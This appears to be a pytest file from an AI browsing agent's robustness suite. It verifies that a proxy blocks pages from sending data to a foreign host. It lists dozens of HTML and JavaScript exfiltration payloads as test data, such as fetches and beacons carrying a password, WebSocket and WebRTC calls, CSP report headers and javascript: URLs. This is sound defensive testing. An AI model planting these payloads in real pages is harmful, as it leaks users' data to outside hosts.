"""Redirects and other ways out of a site: whatever carries something to a foreign host, that host hears nothing."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager, suppress

import pytest
from playwright.sync_api import Browser

from agent.browser.launcher import address_pattern, site_context
from agent.browser.site_browser import SiteBrowser
from agent.errors import OriginBlocked
from agent.snapshot.frame import all_texts
from tests.robustness.attacks.redirects.hosts import (
    AFTERWARDS,
    ALLOWED,
    TRIED,
    AllowedHost,
    ForeignHost,
    allowed_host,
    foreign_host,
)

PATIENCE = 10.0
POST = '{{method: "POST", body: "password=hunter2", mode: "no-cors"{more}}}'


def _form(status: int) -> str:
    fields = '<input name="password" value="hunter2">'
    return f'<form method="post" action="/hop/{status}">{fields}</form><script>document.forms[0].submit()</script>'


def _fetch(status: int, more: str = "") -> str:
    return f"<script>fetch('/hop/{status}', {POST.format(more=more)}).catch(() => 0)</script>"


STOPPED = {
    **{
        f"navigation {status}": f"<script>location = '/hop/{status}'</script>"
        for status in (301, 302, 303, 307, 308)
    },
    **{f"form {status}": _form(status) for status in (302, 307, 308)},
    **{f"fetch {status}": _fetch(status) for status in (302, 307, 308)},
    "image": '<img src="/hop/302">',
    "picture of a style": "<style>html { background: url(/hop/302) }</style>",
    "style": '<link rel="stylesheet" href="/hop/302">',
    "script": '<script src="/hop/302"></script>',
    "frame": '<iframe src="/hop/302"></iframe>',
    "object": '<object data="/hop/302"></object>',
    "video": '<video src="/hop/302" autoplay muted></video>',
    "worker": "<script>new Worker('/worker.js')</script>",
    "shared worker": "<script>new SharedWorker('/worker.js')</script>",
    "shared worker, no redirect": "<script>new SharedWorker('/direct.js')</script>",
    "socket of a worker": "<script>new Worker('/socket.js')</script>",
    "events": "<script>new EventSource('/hop/302')</script>",
    "prefetch": '<link rel="prefetch" href="/hop/302">',
    "preload": '<link rel="preload" as="image" href="/hop/302">',
    "popup": "<script>open('/hop/302')</script>",
    "download": "<a href='/hop/302' download>去</a><script>document.links[0].click()</script>",
    "identity of somebody else": "<script src='/identity.js'></script>",
    "refresh": '<meta http-equiv="refresh" content="0; url=/hop/302">',
}
"""What a page does; the proxy holds it back and the run is stopped."""

HELD = {
    "beacon": "<script>navigator.sendBeacon('/hop/307', 'password=hunter2')</script>",
    "beacon, no redirect": "<script>navigator.sendBeacon('{foreign}', 'password=hunter2')</script>",
    "fetch that outlives its page": _fetch(307, ", keepalive: true"),
    "ping": "<a href='#' ping='/hop/307'>去</a><script>document.links[0].click()</script>",
    "socket": "<script>new WebSocket('{foreign}'.replace('http', 'ws'))</script>",
    "socket with a redirect": "<script>new WebSocket('/hop/302')</script>",
    "service worker": "<script>navigator.serviceWorker.register('/service.js')</script>",
    "image, no redirect": '<img src="{foreign}">',
    "worker, no redirect": "<script>new Worker('/direct.js')</script>",
    "prefetch by rules": """<script type="speculationrules">
        {"prefetch": [{"source": "list", "urls": ["/hop/302"], "eagerness": "immediate"}]}</script>""",
    "connect early": '<link rel="preconnect" href="{foreign}"><link rel="preconnect" href="https://{netloc}">',
    "import of a style": "<style>@import '{foreign}'; @font-face { font-family: f; src: url({foreign}) } body { font-family: f }</style>",
    "frame without an address": "<iframe srcdoc='<img src={foreign}>'></iframe>",
    "frame of data": "<iframe src='data:text/html,<img src={foreign}>'></iframe>",
    "blob that opens itself": """<script>const page = new Blob(['<img src={foreign}>'], {type: 'text/html'});
        open(URL.createObjectURL(page))</script>""",
    "script in an address": "<script>open('javascript:fetch(`{foreign}`)')</script>",
    "picture of a picture": "<svg><image href='{foreign}'/><use href='{foreign}#a'/></svg>",
    "track of a video": "<video controls autoplay><track default src='{foreign}'><source src='{foreign}'></video>",
    "call over UDP": """<script>const call = new RTCPeerConnection({iceServers: [{urls: "stun:{netloc}"}]});
        call.createDataChannel("password"); call.createOffer().then(offer => call.setLocalDescription(offer));</script>""",
}
"""What comes to nothing in silence: the browser itself gives it up, or a route of ours stops it before the proxy."""

HEADERS = {
    "Refresh": "0; url={foreign}",
    "Link": "<{foreign}>; rel=preload; as=image, <{foreign}>; rel=preconnect, <{foreign}>; rel=stylesheet",
    "Content-Security-Policy": "script-src 'none'; report-uri {foreign}",
    "Content-Security-Policy-Report-Only": "img-src 'none'; report-uri {foreign}",
    "Speculation-Rules": '"{foreign}rules.json"',
}
"""What a page's own headers ask the browser to do; a refused navigation among them stops the run."""

OTHER_STATUSES = ("navigation 301", "navigation 303", "navigation 308", "form 308", "fetch 308")
"""To the proxy, which sees what is asked for after the hop, they are all the same."""

CONTROLS = (
    "form 307",
    "fetch 307",
    "image",
    "worker",
    "shared worker",
    "socket of a worker",
    "prefetch",
    "popup",
    "download",
)


@pytest.fixture
def foreign() -> Iterator[ForeignHost]:
    with foreign_host() as host:
        yield host


@pytest.fixture
def site(foreign: ForeignHost) -> Iterator[AllowedHost]:
    with allowed_host(foreign) as host:
        send = POST.format(more="")
        host.pages["/worker.js"] = f"fetch('/hop/307', {send})"
        host.pages["/direct.js"] = f"fetch('http://{foreign.netloc}/', {send})"
        host.pages["/socket.js"] = f"new WebSocket('ws://{foreign.netloc}/')"
        providers = f"[{{configURL: 'http://{foreign.netloc}/config.json', clientId: 'password'}}]"
        host.pages["/identity.js"] = f"navigator.credentials.get({{identity: {{providers: {providers}}}}})"
        host.pages["/service.js"] = f"oninstall = event => event.waitUntil(fetch('/hop/307', {send}))"
        yield host


@contextmanager
def _view(browser: Browser) -> Iterator[SiteBrowser]:
    refused: list[str] = []
    with site_context(browser, [ALLOWED], refused=refused) as context:
        allowed = address_pattern([ALLOWED])
        yield SiteBrowser(context, context.new_page(), "site", PATIENCE, allowed=allowed, refused=refused)


def _watch(browser: SiteBrowser, address: str) -> None:
    browser.goto(address)
    browser.wait(lambda _: None, "攻击", "从不出现")


def _tried(browser: SiteBrowser) -> None:
    browser.wait(lambda snapshots: (TRIED in "".join(all_texts(snapshots))) or None, "攻击", TRIED)


@pytest.mark.parametrize(
    "way",
    [pytest.param(way, marks=pytest.mark.exhaustive if way in OTHER_STATUSES else ()) for way in STOPPED],
)
def test_a_refused_hop_stops_the_run_and_nothing_has_left(
    browser: Browser, site: AllowedHost, foreign: ForeignHost, way: str
) -> None:
    site.pages["/"] = f"<!doctype html><body>{STOPPED[way]}"
    with _view(browser) as view, pytest.raises(OriginBlocked, match=foreign.netloc):
        _watch(view, site.address())
    assert foreign.heard == []


TOGETHER = 6
"""How many of these one page does: that nothing is heard is shown for each by showing it for all."""


@pytest.mark.parametrize("first", list(HELD)[::TOGETHER])
def test_what_the_browser_gives_up_by_itself_leaves_nothing_either(
    browser: Browser, site: AllowedHost, foreign: ForeignHost, first: str
) -> None:
    place = list(HELD).index(first)
    attack = "".join([*HELD.values()][place : place + TOGETHER])
    attack = attack.replace("{foreign}", f"http://{foreign.netloc}/").replace("{netloc}", foreign.netloc)
    site.pages["/"] = f"<!doctype html><body>{attack}{AFTERWARDS}"
    with _view(browser) as view:
        view.goto(site.address())
        _tried(view)
    assert foreign.heard == []


@pytest.mark.parametrize("name", HEADERS)
def test_no_header_of_a_page_leads_anything_out(
    browser: Browser, site: AllowedHost, foreign: ForeignHost, name: str
) -> None:
    site.headers["/"] = {name: HEADERS[name].replace("{foreign}", f"http://{foreign.netloc}/")}
    script = "" if name == "Content-Security-Policy" else AFTERWARDS
    site.pages["/"] = (
        f"<!doctype html><body><p>{TRIED if not script else ''}</p><img src='/later'><script>0</script>{script}"
    )
    with _view(browser) as view, suppress(OriginBlocked):
        view.goto(site.address())
        _tried(view)
    assert foreign.heard == []


@pytest.mark.parametrize("way", CONTROLS)
def test_without_the_proxy_the_foreign_host_hears_of_it(
    browser: Browser, site: AllowedHost, foreign: ForeignHost, way: str
) -> None:
    site.pages["/"] = f"<!doctype html><body>{STOPPED[way]}"
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(site.address())
        for _ in range(100):
            if foreign.heard:
                break
            page.wait_for_timeout(50)
    assert foreign.heard
